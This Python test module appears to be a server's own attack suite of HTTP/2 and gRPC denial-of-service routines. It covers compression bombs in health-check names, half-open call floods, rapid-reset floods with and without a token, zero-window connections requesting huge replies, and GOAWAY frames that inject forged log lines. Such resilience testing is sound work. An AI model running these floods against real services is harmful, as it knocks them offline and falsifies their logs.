"""Attacks with frames of HTTP/2, most of them without a token."""

from __future__ import annotations

import time
import zlib
from contextlib import ExitStack, suppress

from grpc_health.v1 import health_pb2
from hyperframe import frame as h2

from edge.pb import inference_pb2 as pb
from tests.attacks.measure import attack
from tests.attacks.target import Target
from tests.attacks.wire import HEALTH, INFER, Peer, flood, message
from tests.support.http2_client import raw
from tests.support.sample_requests import good

_GZIP = ("grpc-encoding", "gzip")


def _health(size: int) -> bytes:
    """Return a request for a name of this size, compressed."""
    deflater = zlib.compressobj(wbits=16 + zlib.MAX_WBITS)
    content = health_pb2.HealthCheckRequest(service="a" * size).SerializeToString()
    return deflater.compress(content) + deflater.flush()


@attack()
def compressed_names_to_watch(target: Target) -> None:
    """40 watches of 30 kB each, which hold names of 30 MB."""
    name = _health(30_000_000)
    with Peer(target.grpc_port) as peer:
        peer.agree()
        for _ in range(40):
            peer.call(f"/{HEALTH}/Watch", name, _GZIP, compressed=True)
        peer.stay(1.0)


@attack()
def compressed_names_to_check(target: Target) -> None:
    """15 checks of 58 kB each, which inflate to 60 MB."""
    name = _health(60_000_000)
    with Peer(target.grpc_port) as peer:
        peer.agree()
        for _ in range(15):
            peer.call(f"/{HEALTH}/Check", name, _GZIP, compressed=True)
        peer.stay(0.5)


@attack()
def half_open_calls(target: Target) -> None:
    """30 connections of 4,000 calls without an end, each with 8 KB of headers that take 18 bytes."""
    large = ("x", "y" * 3_500)
    with ExitStack() as connections:
        for _ in range(30):
            with suppress(OSError):
                peer = connections.enter_context(Peer(target.grpc_port))
                peer.agree()
                parts = [peer.head(f"/{HEALTH}/Check", large, large)[1] for _ in range(4_000)]
                peer.write(b"".join(parts))
        time.sleep(0.5)


@attack()
def forged_log_lines(target: Target) -> str | None:
    """The debug data of GOAWAY with line ends and escapes, which a library may write to the log."""
    line = b"\n\x1b[31m2026-01-01 ERROR forged: all models are lost"
    data = (line * (16_000 // len(line)))[:16_000]
    flood(target.grpc_port, h2.GoAwayFrame(0, error_code=2, additional_data=data).serialize() * 20)
    if b"ERROR forged" in target.log.read_bytes()[-10_000_000:]:
        return "a forged line in the log"
    return None


def _resets(target: Target, fields: tuple[tuple[str, str], ...]) -> None:
    # grpcio's window for a connection would end it.
    body = message(good().SerializeToString()) if target.transport == "nghttp2" else b""
    with Peer(target.grpc_port) as peer:
        peer.agree()
        written = bytearray()
        while len(written) < 5_300_000:
            stream, head = peer.head(INFER, *fields)
            written += head + (raw(0, 1, stream, body) if body else b"") + raw(3, 0, stream, b"\0\0\0\x08")
        peer.write(bytes(written))
        peer.stay(1.0)


@attack()
def rapid_resets(target: Target) -> None:
    """5.3 MB of calls, each reset at once, in one write."""
    _resets(target, target.bearer())


@attack()
def rapid_resets_without_token(target: Target) -> None:
    """The same of calls that are not authorized."""
    _resets(target, ())


@attack()
def unread_answers(target: Target) -> None:
    """8 connections that take no answer, and ask for 80 MB of them each."""
    request = pb.ModelInferRequest(id="i" * 10_000_000)
    request.MergeFrom(good())
    content = request.SerializeToString()
    with ExitStack() as connections:
        for _ in range(8):
            with suppress(OSError):
                peer = connections.enter_context(Peer(target.grpc_port, {h2.SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
                peer.agree()
                for _ in range(8):
                    peer.call(INFER, content, *target.bearer())
